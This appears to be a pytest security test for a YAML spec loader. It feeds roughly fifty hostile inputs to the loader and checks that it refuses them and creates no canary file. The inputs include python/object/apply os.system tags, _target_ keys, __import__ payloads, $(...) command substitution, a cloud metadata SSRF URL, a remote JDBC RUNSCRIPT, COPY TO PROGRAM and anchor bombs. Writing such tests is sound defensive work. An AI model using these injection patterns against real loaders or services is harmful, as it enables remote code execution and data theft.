"""Fifty specs that try to run something: none does, and each that names a component outside the tables is refused."""

import json
import subprocess
import sys
from pathlib import Path

import pytest

HEAD = "name: a\ntask: text-classification\ndata:\n  source: rows.csv\n"
TOUCH = "touch OWNED"

REFUSED = [
    # tags that name something to construct
    f"train: !!python/object/apply:os.system ['{TOUCH}']",
    f"train: !!python/object/new:os.system ['{TOUCH}']",
    "train: !!python/name:os.system",
    "train: !!python/module:this",
    "model: !!python/object:lingqu.spec.Spec {}",
    "train: !!python/tuple [1]",
    f"size: !!javax.script.ScriptEngineManager ['{TOUCH}']",
    "train: !!map {epochs: 1}",
    "data: !include /etc/passwd",
    "size: !ENV ${SIZE}",
    "train: ! {epochs: 1}",
    "%TAG ! tag:yaml.org,2002:python/\n---\ntrain: !name:os.system",
    # keys that other loaders act on
    "_target_: os.system",
    f"train: {{_target_: os.system, _args_: ['{TOUCH}']}}",
    "model: {_target_: subprocess.run}",
    "model: {class_path: os.system, init_args: {}}",
    "train: {callbacks: [{class_path: os.system}]}",
    "_partial_: true",
    "_convert_: all",
    "defaults: [override /model: evil]",
    "includes: [other.yaml]",
    "extends: other.yaml",
    "<<: {train: {epochs: 1}}",
    "__class__: os._wrap_close",
    "train: {__class__: x, __init__: y, __reduce__: z}",
    "train: {__init_subclass__: 1}",
    "data: {__pydantic_extra__: {a: 1}}",
    "_folder: /etc",
    "model_config: {extra: allow}",
    # names of components
    "model: os.system",
    "model: os:system",
    "model: ../../evil.py",
    "model: lingqu.models.cnn:Cnn",
    "model: hf://owner/evil",
    "model: [cnn, 'builtins:eval']",
    'model: \'__import__("os").system("touch OWNED")\'',
    "trust_remote_code: true",
    "train: {method: 'os.system'}",
    "compress: {quantise: 'pickle:evil.pkl'}",
    "gates: {'__import__(\"os\")': '>= 1'}",
    'gates: {f1: \'>= __import__("os").system("touch OWNED")\'}',
    "gates: {f1: '>= 1; import os'}",
    "budget: '{{ 7 * 7 }} min'",
    "budget: ${oc.env:HOME} min",
    # sources
    "  encoding: zip",
    "  encoding: ../../evil",
    "  types: {a: 'os.system'}",
    "  root: $(touch OWNED)",
    # shapes that exhaust
    "size: " + "[" * 5000,
    "train: &a [*a, *a]",
    "a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nd: [*c,*c]",
    "train: {seed: " + "9" * 10_000 + "}",
]
SOURCES = [
    "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://e/x.sql'",
    "postgresql://host/table?sslrootcert=`touch OWNED`",
    "http://169.254.169.254/latest/meta-data",
    "file:///etc/passwd",
    "hf://owner/evil/../../etc/passwd",
    "hf://owner/evil?trust_remote_code=true",
    "postgresql://host/shop?table=t&service=`touch OWNED`",
    "postgresql://host/shop?query=SELECT 1; COPY t TO PROGRAM 'touch OWNED'",
    "sqlite:///a.db?query=ATTACH 'OWNED' AS x",
    "sklearn:../../evil",
    "sklearn:datasets.load_iris()",
    "${HOME}",
    "$(touch OWNED).csv",
    "`touch OWNED`",
    "| touch OWNED",
    "%(here)s/rows.csv",
]
# These mean nothing to lingqu: the text of a column's name, and stays that text.
INERT = [
    "  columns: {text: '${PWD}', label: '{{ 7 * 7 }}'}",
    '  columns: {text: \'__import__("os").system("touch OWNED")\', label: y}',
    "  group: $(touch OWNED)",
    "  time: '%(x)s'",
]


@pytest.mark.heavy
def test_no_code_is_run(tmp_path: Path):
    (tmp_path / "rows.csv").write_text("text,label\n")
    texts = [HEAD + line + "\n" for line in REFUSED]
    texts += [HEAD.replace("rows.csv", json.dumps(source)) for source in SOURCES]
    texts += [HEAD + line + "\n" for line in INERT]
    assert len(texts) >= 50
    evil = [write(tmp_path / f"evil-{i}.yaml", text) for i, text in enumerate(texts)]
    broken = HEAD + "bugdet: 1\nsize: [\n"
    harmless = [
        write(tmp_path / f"fine-{i}.yaml", text) for i, text in enumerate((HEAD, broken, HEAD + "lr: 1\nsize: x\n"))
    ]
    child = subprocess.run(
        [sys.executable, str(Path(__file__).with_name("evil.py"))],
        input=json.dumps({"harmless": harmless, "evil": evil}),
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=60,
        check=False,
    )
    assert child.returncode == 0, child.stderr
    results = json.loads(child.stdout)
    assert results["canary"] == ["seen", []]
    assert {path: events for path, (_, events) in results.items() if events} == {}
    expected = ["refused"] * (len(REFUSED) + len(SOURCES)) + ["read"] * len(INERT)
    wrong = {texts[i]: results[path] for i, path in enumerate(evil) if results[path][0] != expected[i]}
    assert wrong == {}
    assert not (tmp_path / "OWNED").exists()


def write(path: Path, text: str) -> str:
    path.write_text(text, encoding="utf-8")
    return str(path)
